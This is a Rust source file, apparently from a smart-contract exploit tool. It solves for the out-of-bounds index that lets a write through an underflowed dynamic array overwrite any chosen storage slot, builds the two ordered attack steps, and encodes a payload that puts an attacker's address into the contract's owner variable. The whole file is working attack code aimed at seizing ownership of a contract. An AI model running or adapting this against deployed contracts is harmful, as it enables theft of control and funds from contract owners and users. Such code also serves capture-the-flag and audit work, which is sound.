//! Out-of-bounds index solver for an array whose length can be driven below zero.
//!
//! Once the length word wraps to 2^256 - 1, a bounds check of the form `index < length`
//! admits every index, and element `i` lives at `keccak256(length_slot) + i`. Solving
//! `base + i == target (mod 2^256)` gives `i = target - base`, which is close to 2^256
//! whenever the target slot sits before the array's data region. Large indices are the
//! point of the attack and are never rejected.

use crate::error::{ConfigError, LayoutError};
use crate::solver::plan::{Condition, Step, StepAction};
use crate::storage::{Slot, SlotPosition, StorageLayout, TitleEncoding};
use alloy::primitives::{Address, Bytes, U256};
use serde::Serialize;

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct UnderflowSolution {
    pub array: String,
    pub length_slot: Slot,
    pub base_slot: Slot,
    pub target_slot: Slot,
    pub index: Slot,
}

impl UnderflowSolution {
    /// Slot the indexed write touches; equals `target_slot` by construction.
    pub fn landing_slot(&self) -> Slot {
        self.base_slot.wrapping_add(self.index)
    }

    /// True when reaching the target requires wrapping past 2^256.
    pub fn wraps(&self) -> bool {
        self.target_slot < self.base_slot
    }
}

pub struct UnderflowPlanner<'a> {
    layout: &'a StorageLayout,
}

impl<'a> UnderflowPlanner<'a> {
    pub fn new(layout: &'a StorageLayout) -> Self {
        Self { layout }
    }

    pub fn solve(&self, array: &str, target_slot: Slot) -> Result<UnderflowSolution, LayoutError> {
        let length_slot = self.layout.slot_of(array)?;
        let base_slot = self.layout.dynamic_array_base_slot(array)?;
        let index = target_slot.wrapping_sub(base_slot);
        tracing::debug!(
            array,
            %length_slot,
            %base_slot,
            %target_slot,
            %index,
            "solved out-of-bounds index"
        );
        Ok(UnderflowSolution {
            array: array.to_string(),
            length_slot,
            base_slot,
            target_slot,
            index,
        })
    }

    /// Solve for the starting slot of a declared variable.
    pub fn solve_for_variable(
        &self,
        array: &str,
        variable: &str,
    ) -> Result<UnderflowSolution, LayoutError> {
        let target_slot = self.layout.slot_of(variable)?;
        self.solve(array, target_slot)
    }

    /// The two ordered steps: decrement-on-empty, then the indexed write of `payload`.
    pub fn build_steps(
        &self,
        solution: &UnderflowSolution,
        target: Address,
        attacker: Address,
        payload: Bytes,
        note: &str,
    ) -> [Step; 2] {
        let retract = Step {
            label: format!("underflow `{}` length", solution.array),
            target,
            action: StepAction::UnderflowArrayLength {
                array: solution.array.clone(),
                length_slot: solution.length_slot,
                retract_index: U256::ZERO,
            },
            preconditions: vec![Condition::ArrayLengthEquals { length: U256::ZERO }],
            postconditions: vec![Condition::ArrayLengthEquals { length: U256::MAX }],
        };

        let overwrite = Step {
            label: format!(
                "overwrite slot {} via `{}`[{}]",
                solution.target_slot, solution.array, solution.index
            ),
            target,
            action: StepAction::OverwriteSlot {
                array: solution.array.clone(),
                index: solution.index,
                target_slot: solution.target_slot,
                payload,
                note: note.to_string(),
            },
            preconditions: vec![
                Condition::ArrayLengthExceeds {
                    index: solution.index.as_u256(),
                },
                Condition::OwnerIsNot { account: attacker },
            ],
            postconditions: vec![Condition::OwnerEquals { account: attacker }],
        };

        [retract, overwrite]
    }
}

/// Title bytes whose stored form puts `attacker` into the variable at `position`.
/// Packed neighbours sharing the slot are written as zero.
pub fn owner_payload(
    position: &SlotPosition,
    attacker: Address,
    encoding: TitleEncoding,
) -> Result<Bytes, ConfigError> {
    let word = position.insert_word(U256::ZERO, U256::from_be_slice(attacker.as_slice()));
    encoding
        .title_for_word(word)
        .map(Bytes::from)
        .ok_or_else(|| {
            ConfigError::InvalidConfig(format!(
                "a {encoding} title cannot leave {attacker} in slot {}: word {word:#x} is not an \
                 inline string (lowest byte must be an even length tag <= 0x3e with zero padding \
                 before it)",
                position.slot
            ))
        })
}
